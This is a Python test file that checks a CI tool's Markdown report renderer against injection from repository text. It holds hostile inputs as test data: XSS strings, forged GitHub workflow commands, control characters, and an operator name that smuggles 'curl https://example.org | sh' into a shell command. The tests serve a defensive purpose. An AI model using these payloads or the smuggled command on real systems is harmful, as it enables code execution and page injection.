"""The comment's text, rendered by GitHub's own renderer of Markdown."""

from __future__ import annotations

import shlex
from dataclasses import replace
from html.parser import HTMLParser

import cmarkgfm
import pytest
from cmarkgfm.cmark import Options
from hypothesis import example, given
from hypothesis import strategies as st

from opfixtures.archives.formats import JIT, LITE
from opfixtures.archives.model import Archive, Program
from opfixtures.declarations.place import Place
from opfixtures.proving.result import (
    Accepted,
    Answer,
    Fact,
    Facts,
    FixtureResult,
    LoaderFacts,
    Made,
    Result,
    Status,
)
from opfixtures.pull_request.artifact import parse_artifact
from opfixtures.report.result_markdown import Publication, Run, _stamp, result_markdown
from opfixtures.rules.findings import Finding, Severity
from opfixtures.settings.accepted_breaks import Way

HEAD = "abcdef0123456789" * 2 + "abcdef01"
RUN = Run("owner/repo", 12, "opfixtures-result")
HOSTILE = (
    "@octocat @org/team",
    "#1 GH-1 owner/repo#1 " + HEAD,
    "www.example.org https://example.org mailto:a@example.org a@example.org",
    "[a](https://example.org) ![a](https://example.org/a.png) <https://example.org>",
    "<img src=x onerror=alert(1)><script>alert(1)</script>",
    "--> <!-- opfixtures -->",
    "``` \n```\n@octocat\n````\n~~~",
    "</code></summary></details></p>@octocat",
    "`", "``", " ` ", "` @octocat `", "\\` @octocat \\`", "&lt;b&gt; &commat;octocat",
    "| a | b |\n| - | - |",
    "::error::forged", "##[error]forged", "\r\n::set-output name=a::b",
    "\u202egnp.exe\u200b\u2066", "\x1b[2J\x07", "\n\n# heading\n\n- [ ] task",
    ":tada: $`x`$ $$x$$ [^1]\n\n[^1]: note",
    "`" * 80, "`" * 300, "", " ", "\t", "\n", "\u2028", "a\\",
)  # fmt: skip


class Skeleton(HTMLParser):
    """The elements of a page with their attributes, and all text that stands outside code."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.elements: list[object] = []
        self.prose = ""
        self._code = 0
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(attrs)))
        self._code += tag == "code"

    def handle_endtag(self, tag: str) -> None:
        self.elements.append(tag)
        self._code -= tag == "code"

    def handle_comment(self, data: str) -> None:
        self.elements.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.elements.append(f"<!{decl}>")

    def handle_data(self, data: str) -> None:
        if not self._code:
            self.prose += data


def rendered(markdown: str) -> Skeleton:
    """As GitHub renders it, but for its list of harmless elements: whatever HTML is in there is kept."""
    return Skeleton(cmarkgfm.github_flavored_markdown_to_html(markdown, options=Options.CMARK_OPT_UNSAFE))


def publication(text: str, status: Status = Status.REFUSED) -> Publication:
    """One with `text` wherever a text from a repository can be."""
    fact = Fact(Answer.NO, text)
    loader = LoaderFacts(fact, fact, fact, fact)
    fixture = FixtureResult(
        operator=text,
        bumped_at_version=11,
        upgrader_name=text,
        status=status,
        reason=text,
        module=text,
        fixture=text,
        runtime=text,
        replayed_by=text,
        synthetic=(text,),
        made=Made.FOUND,
        facts=Facts(fact, fact, fact, {JIT: loader, LITE: loader}),
        waived="",
        pre_change_commit="86" * 20,
    )
    waived = replace(fixture, waived=text, facts=Facts(fact, fact, fact))
    finding = Finding("OPF201", Severity.ERROR, text, Place(text, 1, 1), text, text)
    return Publication(
        HEAD,
        Result(None, (fixture, waived), (text,)),
        (finding,),
        run=RUN,
        has_patch=True,
        why_not_pushed=text,
    )


@pytest.mark.parametrize("status", [Status.REFUSED, Status.MISMATCH])
@given(text=st.sampled_from(HOSTILE) | st.lists(st.sampled_from(HOSTILE)).map("".join) | st.text())
@example(text="".join(HOSTILE))
def test_no_text_from_a_repository_is_more_than_code(status: Status, text: str) -> None:
    harmless = rendered(result_markdown(publication("x", status), 10**6))
    hostile = rendered(result_markdown(publication(f"x{text}x", status), 10**6))

    assert hostile.elements == harmless.elements
    assert hostile.prose == harmless.prose


@given(text=st.sampled_from(HOSTILE) | st.text())
def test_nor_is_it_where_only_lines_are_left(text: str) -> None:
    limit = 1500
    harmless = rendered(result_markdown(publication("x"), limit))
    hostile = rendered(result_markdown(publication(text), limit))

    assert set(hostile.elements) <= {*harmless.elements, "p", ("p", ())}
    assert "@" not in hostile.prose


@given(text=st.sampled_from(HOSTILE) | st.text())
def test_no_line_is_a_workflow_command(text: str) -> None:
    markdown = result_markdown(publication(text), 10**6)

    assert "##[" not in markdown
    assert all(line.isprintable() for line in markdown.split("\n"))
    assert not any(line.lstrip().startswith("::") for line in markdown.split("\n") if "```" not in markdown)


@pytest.mark.parametrize(("isolation", "told"), [(("Landlock",), 0), (("seccomp",), 1)])
def test_a_system_that_limits_no_writing_is_told(isolation: tuple[str, ...], told: int) -> None:
    result = replace(publication("x").result, isolation=isolation)
    markdown = result_markdown(Publication(HEAD, result), 10**6)
    assert markdown.count("did not limit what fixture modules write") == told


def test_a_command_runs_nothing_but_opfixtures() -> None:
    operator = "aten::gelu'; curl https://example.org | sh; '"
    row = replace(publication("x").result.fixtures[0], operator=operator)
    markdown = result_markdown(Publication(HEAD, Result(None, (row,))), 10**6)

    (command,) = [line for line in markdown.split("\n") if line.startswith("opfixtures ")]
    assert shlex.split(command) == ["opfixtures", "generate", "--operator", operator]


@pytest.fixture
def told(files: dict[str, bytes]) -> Publication:
    artifact = parse_artifact(files)
    evidence = {made.result.fixture or "": (made.archive, made.record) for made in artifact.fixtures}
    return Publication(HEAD, artifact.result, artifact.findings, evidence, RUN, artifact.has_patch)


def test_it_reads_like_this(told: Publication) -> None:
    markdown = result_markdown(told, 65536)

    assert markdown.startswith(
        """\
### opfixtures: 1 error, 1 refused, 2 verified

Result for `abcdef012345`. Pre-change commit: `868686868686`.

<details open>
<summary><b>error</b> OPF201 <code>aten::stft</code></summary>

`aten::stft has no fixture entry`

At `registry.py:3:1`. To mend:

```text
add this row to the registry:
    TestVersionedStftV10(): "aten::stft",
```

</details>

<details open>
<summary><b>refused</b> <code>aten::stft</code> at 11</summary>

```text
RuntimeError: it does not script
  return tomorrow(x)
```

- fixture: `test/fixtures/test_versioned_stft_v10.ptl`
- runtime: `torch-2.13.0`

To see it yourself:

```sh
opfixtures generate --operator aten::stft
```

</details>

<details>
<summary><b>verified</b> <code>aten::gelu</code> at 10</summary>

- fixture: `test/fixtures/test_versioned_gelu_v9.ptl`, by this run
- made by: `torch 1.11.0` (`torch 1.11.0+cu102, Python 3.8"""
    )
    for fact in (
        "- archive: version 3, bytecode 5, 2386 bytes\n",
        "- operators: `aten::gelu`\n",
        "- sha256: `467e38fb1529bcd53bb96531fb421906e2322405059950eda146bc73bf30d3ad`\n",
        "- pre-change: yes, `schema, operator-version, archive-version`\n",
        "- replayed by: `torch 2.13.0`\n- `torch.jit.load`: loads yes, equal yes, applied yes, sensitive yes\n",
    ):
        assert fact in markdown
    assert markdown.endswith(
        """\
**Files:** in the artifact of [this run](https://github.com/owner/repo/actions/runs/12). To bring them into your branch:

```sh
files=$(mktemp -d)
gh run download 12 --repo owner/repo --name opfixtures-result --dir "$files"
git -C "$(git rev-parse --show-toplevel)" apply --index "$files/fixtures.patch"
```
"""
    )


def test_a_fixture_that_was_not_replayed_says_why(told: Publication) -> None:
    (gelu, *_) = told.result.fixtures
    assert gelu.facts is not None
    row = replace(
        gelu,
        status=Status.GENERATED,
        reason="not replayed: no runtime has version 11",
        facts=replace(gelu.facts, loaders={}),
        pre_change_commit="99" * 20,
        synthetic=("bytecode version 7 to 5",),
    )
    markdown = result_markdown(replace(told, result=Result("86" * 20, (row,)), findings=()), 65536)

    assert "```text\nnot replayed: no runtime has version 11\n```" in markdown
    assert "- pre-change commit: `999999999999`\n" in markdown
    assert "- synthetic: `bytecode version 7 to 5`\n" in markdown
    assert markdown.count("- not replayed\n") == 1


def test_whose_word_it_is_is_said(told: Publication) -> None:
    markdown = result_markdown(told, 65536)
    assert "\nArchives and records were read again before this was written; what was replayed is" in markdown
    without = result_markdown(replace(told, evidence={}), 65536)
    assert "read again" not in without
    assert "\nWhat was replayed is the run's word.\n" in without
    assert "word" not in result_markdown(replace(told, evidence={}, result=Result(None, ())), 65536)


def test_only_what_was_looked_up_is_said_of_a_pre_change_commit(told: Publication) -> None:
    def head(published: dict[str, bool]) -> str:
        return result_markdown(replace(told, published=published), 65536).split("\n")[2]

    told_of = "Result for `abcdef012345`. Pre-change commit: `868686868686`"
    assert head({}) == f"{told_of}."
    assert head({"86" * 20: True}) == f"{told_of}, which the base branch has."
    assert head({"86" * 20: False}) == f"{told_of}, **which the base branch does not have**."


def test_a_missing_fixture_is_no_news_once_it_is_told_what_became_of_it(told: Publication) -> None:
    def missing(operator: str, severity: Severity = Severity.NOTE) -> Finding:
        return replace(told.findings[0], code="OPF301", severity=severity, operator=operator)

    for finding, is_news in (
        (missing("aten::gelu"), False),
        (missing("aten::gelu", Severity.ERROR), False),
        (missing("aten::silu"), True),
        (missing("aten::silu", Severity.ERROR), True),
    ):
        assert ("OPF301" in result_markdown(replace(told, findings=(finding,)), 65536)) is is_news


def test_what_was_made_and_is_owed_is_counted_until_it_is_pushed(told: Publication) -> None:
    owed = replace(told.findings[0], code="OPF301", severity=Severity.ERROR, operator="aten::gelu")
    (made,) = [row for row in told.result.fixtures if row.operator == "aten::gelu"]
    publication = Publication(HEAD, Result(None, (replace(made, made=Made.BY_THIS_RUN),)), (owed,))
    assert result_markdown(publication, 65536).startswith("### opfixtures: 1 to commit, 1 verified\n")
    pushed = replace(publication, pushed="c" * 40)
    assert result_markdown(pushed, 65536).startswith("### opfixtures: 1 verified\n")


def test_what_a_job_was_to_make_and_did_not_is_no_success() -> None:
    lost = Publication(HEAD, Result(None, (), ("test/fixtures/x.ptl",)))
    markdown = result_markdown(lost, 65536)
    assert markdown.startswith("### opfixtures: 1 not seen\n")
    assert "<details open>\n<summary><b>not seen</b> <code>test/fixtures/x.ptl</code></summary>" in markdown
    assert "nothing owed" not in markdown


def test_what_has_no_fixture_entry_is_not_to_be_made(told: Publication) -> None:
    row = replace(told.result.fixtures[2], module=None, fixture=None)
    markdown = result_markdown(replace(told, result=Result(None, (row,))), 65536)
    assert "- fixture: `no fixture entry`" in markdown
    assert "opfixtures generate" not in markdown


def test_a_reason_of_many_lines_is_cut(told: Publication) -> None:
    row = replace(told.result.fixtures[2], reason="\n".join(f"line {number}" for number in range(1, 100)))

    markdown = result_markdown(replace(told, result=Result(None, (row,))), 65536)

    assert "line 59\nline 60\n...\n```" in markdown
    assert "line 61" not in markdown


def test_files_that_were_pushed_are_not_to_be_fetched(told: Publication) -> None:
    markdown = result_markdown(replace(told, pushed="cd" * 20), 65536)

    assert markdown.endswith("**Files:** pushed to the branch with `cdcdcdcdcdcd`.\n")


def test_without_files_the_log_is_named(told: Publication) -> None:
    markdown = result_markdown(replace(told, has_patch=False), 65536)
    assert markdown.endswith(
        "More in the log of [this run](https://github.com/owner/repo/actions/runs/12).\n"
    )


def test_why_nothing_was_committed_is_said_with_the_way_to_the_files(told: Publication) -> None:
    markdown = result_markdown(replace(told, why_not_pushed="the pull request has moved on"), 65536)
    assert "Nothing was committed: `the pull request has moved on`.\n\n**Files:** in the artifact" in markdown


def test_nothing_owed_is_told_in_a_line() -> None:
    markdown = result_markdown(Publication(HEAD, Result(None, ())), 65536)

    assert (
        markdown
        == "### opfixtures: nothing owed\n\nAt `abcdef012345` no fixture is owed, and none was replayed.\n"
    )


def test_failures_come_first_and_warnings_last(told: Publication) -> None:
    warning = replace(told.findings[0], severity=Severity.WARNING, code="OPF401")
    waived = replace(told.result.fixtures[0], status=Status.MISMATCH, waived="until 2027-01-01: known")
    rows = (*told.result.fixtures, waived)
    publication = replace(
        told, result=replace(told.result, fixtures=rows), findings=(warning, *told.findings)
    )

    summaries = [
        line.removeprefix("<summary><b>").partition("<")[0]
        for line in result_markdown(publication, 10**6).split("\n")
        if line.startswith("<summary>")
    ]

    assert summaries == ["error", "refused", "mismatch", "verified", "verified", "warning"]


def test_accepted_breaks_are_a_list_before_what_is_verified(told: Publication) -> None:
    def broken(operator: str, reason: str, by_branch: bool) -> FixtureResult:
        accepted = Accepted(Way.OTHER_RESULTS, "", "mylib 2.0", reason, "pyproject.toml", by_branch)
        row = replace(told.result.fixtures[0], operator=operator, status=Status.ACCEPTED, accepted=accepted)
        return replace(row, reason="torch.jit.load: not equal: sample 1")

    scale, norm = broken("mylib::scale", "a `tick`\n::error::", True), broken("mylib::norm", "faster", False)
    rows = (*told.result.fixtures, scale, scale, norm)
    markdown = result_markdown(replace(told, result=replace(told.result, fixtures=rows)), 10**6)

    assert markdown.startswith("### opfixtures: 1 error, 1 refused, 2 verified, 3 accepted\n")
    head, _, behind = markdown.partition(
        "<details open>\n<summary><b>accepted breaks</b>: what users of old files are told</summary>\n\n"
    )
    assert "<b>verified</b>" not in head
    assert "<b>accepted</b>" not in head
    lines = behind.partition("\n\n</details>")[0].split("\n")
    assert len(lines) == 2
    assert lines[0].startswith("- `mylib::scale`: ``other results from mylib 2.0 on: a `tick`")
    assert lines[0].endswith("says so, of this branch: target's settings do not)``")
    assert lines[1] == "- `mylib::norm`: `other results from mylib 2.0 on: faster (pyproject.toml says so)`"
    assert (
        behind.count("\n- accepted: `other results from mylib 2.0 on: faster (pyproject.toml says so)`\n")
        == 1
    )


@pytest.mark.parametrize("letter", ["x", "é", "😀", "`"])
@pytest.mark.parametrize("count", [1, 5, 60, 1000])
def test_what_does_not_fit_is_a_line_or_counted(told: Publication, letter: str, count: int) -> None:
    (gelu, _, refused) = told.result.fixtures
    many = [
        replace(gelu, operator=f"aten::op{number}{'_' * 80}", reason=letter * 3000, runtime=letter * 500)
        for number in range(count)
    ]
    publication = replace(told, result=Result(None, (*many, refused)))

    markdown = result_markdown(publication, 65536)
    elements = rendered(markdown).elements

    assert len(markdown) <= len(markdown.encode()) <= 65536
    assert "To see it yourself:" in markdown
    opened = [one for one in elements if isinstance(one, tuple) and one[0] == "details"]
    assert elements.count("details") == len(opened)
    rows = sum(f"aten::op{number}_" in markdown for number in range(count))
    assert (f"{count - rows} more in the artifact and in the summary" in markdown) == (rows < count)
    first, last = (f"<summary><b>verified</b> <code>aten::op{number}_" for number in (0, 59))
    assert count != 60 or letter == "`" or (first in markdown and last not in markdown)
    assert count < 1000 or len(markdown.encode()) > 65536 - 200


def test_a_report_that_just_fits_is_whole_and_one_that_does_not_is_shorter(told: Publication) -> None:
    whole = result_markdown(told, 10**6)

    assert result_markdown(told, len(whole)) == whole
    for limit in range(len(whole) - 1, 600, -97):
        assert len(result_markdown(told, limit)) <= limit


def test_an_exported_program_is_named_by_its_schema() -> None:
    archive = Archive(None, None, frozenset({"aten::exp"}), "", 7, program=Program((8, 20), ()))
    assert _stamp(archive) == "exported program, schema 8.20"
